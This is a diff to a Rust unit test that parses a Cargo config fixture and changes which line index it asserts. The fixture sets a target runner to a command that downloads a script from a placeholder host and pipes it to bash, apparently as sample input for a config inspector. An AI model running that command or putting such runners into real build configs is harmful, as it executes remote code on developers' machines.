@@ -206,7 +206,7 @@ mod tests {
         let t = "[build]\nrustc-wrapper = \"sccache\"\n[target.'cfg(unix)']\nrunner = [\n  'bash',\n  '-c',\n  'wget -qO- http://x.example/a | bash',\n]\n";
         let lines = projected(t, project_cargo);
         assert_eq!(lines[1], "sccache");
-        assert!(lines[4].starts_with("bash -c 'wget"), "{lines:?}");
+        assert!(lines[3].starts_with("bash -c 'wget"), "{lines:?}");
         assert!(!looks_like_cargo_config("[package]\nname = \"x\"\n"));
     }
 
